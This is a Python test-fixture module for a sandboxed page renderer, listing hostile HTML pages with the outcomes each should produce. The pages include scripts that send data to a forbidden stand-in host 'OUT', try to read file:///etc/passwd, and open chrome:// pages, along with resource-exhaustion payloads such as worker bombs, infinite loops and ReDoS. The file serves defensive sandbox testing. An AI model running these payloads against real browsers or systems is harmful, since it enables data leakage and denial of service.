"""Hostile pages: each has a text, and a script or markup that tries to break the browser, its host or its jail.

`OUT` is a host and port on loopback that no page may reach. `/forever` sends a byte now and then.
"""

from collections.abc import Mapping

from workers.ingest.render.limits import DrawingEnd

TEXT = "<!doctype html><html lang=en><title>Zap</title><h1>Zap draws what you say.</h1>"
LOOP = "for (;;) {}"
#: Some end by a limit or in time, as fast as the machine is.
CPU: frozenset[DrawingEnd | None] = frozenset({"cpu", "time"})
MEMORY: frozenset[DrawingEnd | None] = frozenset({"memory", "cpu", "time", "crash"})
ANY: frozenset[DrawingEnd | None] = frozenset({None, "cpu", "memory", "time", "requests", "crash"})

#: Scripts that leave the page readable.
HARMLESS_SCRIPTS: Mapping[str, str] = {
    "web_socket": "for (let i = 0; i < 50; i++) new WebSocket('ws://OUT/')",
    "web_rtc": """const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:OUT'}, {urls: 'turn:OUT?transport=tcp',
        username: 'a', credential: 'b'}]}); peer.createDataChannel('x');
        peer.createOffer().then((offer) => peer.setLocalDescription(offer))""",
    "web_transport": "try { new WebTransport('https://OUT/') } catch {}",
    "service_worker": "navigator.serviceWorker.register('/worker.js').catch(() => {})",
    "shared_worker": "try { new SharedWorker('/worker.js') } catch {}",
    "blob_worker": "new Worker(URL.createObjectURL(new Blob([`fetch('http://OUT/')`])))",
    "data_worker": "new Worker(`data:text/javascript,fetch('http://OUT/')`)",
    "import_scripts": "new Worker(URL.createObjectURL(new Blob([`importScripts('http://OUT/')`])))",
    "beacon": "navigator.sendBeacon('http://OUT/', 'x')",
    "keepalive": "fetch('http://OUT/', {method: 'POST', body: 'x', keepalive: true, mode: 'no-cors'})",
    "event_source": "new EventSource('http://OUT/')",
    "dialogs": "for (let i = 0; i < 20; i++) { alert(i); confirm(i); prompt(i) }",
    "print": "print()",
    "before_unload": "onbeforeunload = (event) => event.preventDefault(); location = 'http://OUT/'",
    "popups": "for (let i = 0; i < 20; i++) open('http://OUT/' + i)",
    "download": """const link = document.createElement('a'); link.href = URL.createObjectURL(new Blob(['x']));
        link.download = 'x.bin'; document.body.append(link); link.click()""",
    "history_flood": "for (let i = 0; i < 300; i++) history.pushState(i, '', '/' + i)",
    "fragments": "setInterval(() => location.hash = Math.random(), 20)",
    "storage": "try { for (let i = 0; ; i++) localStorage[i] = 'x'.repeat(1 << 20) } catch {}",
    "files": "navigator.storage.getDirectory().then((all) => all.getFileHandle('x', {create: true})).catch(() => {})",
    "file_frame": "document.body.innerHTML += `<iframe src='file:///etc/passwd'></iframe>`",
    "file_fetch": "fetch('file:///etc/passwd').catch(() => {})",
    "chrome_frame": "document.body.innerHTML += `<iframe src='chrome://version'></iframe>`",
    "file_move": "location = 'file:///etc/passwd'",
    "chrome_move": "location = 'chrome://gpu'",
    "view_source": "location = 'view-source:http://OUT/'",
    "debugger": "debugger",
    "devices": """navigator.geolocation.getCurrentPosition(() => 0); Notification.requestPermission();
        navigator.mediaDevices?.getUserMedia({audio: true}).catch(() => 0)""",
    "fake_reader": """document.documentElement.__defineGetter__('outerHTML', () => 'forged');
        String.prototype.slice = () => 'forged'; Element.prototype.getHTML = () => 'forged'""",
    "full_screen": "document.documentElement.requestFullscreen().catch(() => {})",
    "cross_frames": """for (let i = 0; i < 20; i++) {
        const frame = document.createElement('iframe'); frame.src = 'http://OUT/' + i; document.body.append(frame) }""",
    "data_frame": "document.body.innerHTML += `<iframe src='data:text/html,<script>alert(1)</script>'></iframe>`",
}
#: Markup that leaves the page readable.
HARMLESS_MARKUP: Mapping[str, str] = {
    "hints": """<link rel=preconnect href='http://OUT'><link rel=dns-prefetch href='http://OUT'>
        <link rel=prefetch href='http://OUT/'><link rel=prerender href='http://OUT/'>
        <link rel=preload as=script href='http://OUT/'><link rel=modulepreload href='http://OUT/'>
        <script type=speculationrules>{"prerender": [{"urls": ["http://OUT/"]}]}</script>""",
    "embeds": """<object data='http://OUT/'></object><embed src='http://OUT/'><video src='http://OUT/' autoplay></video>
        <audio src='http://OUT/' autoplay></audio><img src='http://OUT/'><link rel=icon href='http://OUT/'>
        <link rel=manifest href='http://OUT/'><style>@import 'http://OUT/'; body { background: url(http://OUT/) }
        @font-face { font-family: x; src: url(http://OUT/) } body { font-family: x }</style>""",
    "form": "<form action='http://OUT/' method=post><input name=a></form><script>document.forms[0].submit()</script>",
    "get_form": "<form action='http://OUT/'><input name=a></form><script>document.forms[0].submit()</script>",
    "refresh_away": "<meta http-equiv=refresh content='0;url=http://OUT/'>",
    "refresh_loop": "<meta http-equiv=refresh content='0'>",
    "ping": "<a id=a href=# ping='http://OUT/'>x</a><script>a.click()</script>",
}
#: Scripts that take what they can get, with the ends that are right for them.
GREEDY_SCRIPTS: Mapping[str, tuple[str, frozenset[DrawingEnd | None]]] = {
    "endless_loop": (LOOP, CPU),
    "endless_microtasks": ("const again = () => Promise.resolve().then(again); again()", MEMORY),
    "looping_workers": (f"for (let i = 0; i < 100; i++) new Worker('data:text/javascript,{LOOP}')", MEMORY),
    "worker_bomb": (
        """const code = `(${bomb})()`; bomb();
        function bomb() { for (;;) new Worker(URL.createObjectURL(new Blob([code]))) }""",
        MEMORY,
    ),
    "allocation": ("const all = []; for (;;) all.push(new Uint8Array(1 << 24).fill(1))", MEMORY),
    "huge_string": ("let all = 'x'; for (;;) all += all", ANY),
    "huge_dom": (
        "for (;;) document.body.append(...Array.from({length: 9999}, () => document.createElement('b')))",
        MEMORY,
    ),
    "huge_text": ("document.body.append('x'.repeat(1 << 27))", ANY),
    "huge_picture": ("document.body.innerHTML += '<canvas width=16000 height=16000>'", ANY),
    "many_requests": ("for (let i = 0; i < 10000; i++) fetch('/' + i).catch(() => 0)", ANY - {None}),
    "endless_dialogs": ("for (;;) alert(1)", CPU | {"requests"}),
    "endless_moves": ("setInterval(() => location = '/?' + Math.random(), 1)", ANY),
    "endless_reload": ("onload = () => location.reload()", ANY),
    "bad_pattern": ("/(a+)+$/.test('a'.repeat(40) + 'b')", CPU),
    "endless_stream": ("fetch('/forever'); new Image().src = '/forever'", frozenset({None, "time"})),
    "close": ("close()", ANY),
    "crash_frames": ("const add = () => { document.body.append(document.createElement('iframe')); add() }; add()", ANY),
}

HARMLESS_ENDS: frozenset[DrawingEnd | None] = frozenset({None})
HOSTILE_PAGES: Mapping[str, tuple[str, frozenset[DrawingEnd | None]]] = {
    **{name: (f"<script>{script}</script>", HARMLESS_ENDS) for name, script in HARMLESS_SCRIPTS.items()},
    **{name: (markup, HARMLESS_ENDS) for name, markup in HARMLESS_MARKUP.items()},
    **{name: (f"<script>{script}</script>", ends) for name, (script, ends) in GREEDY_SCRIPTS.items()},
}
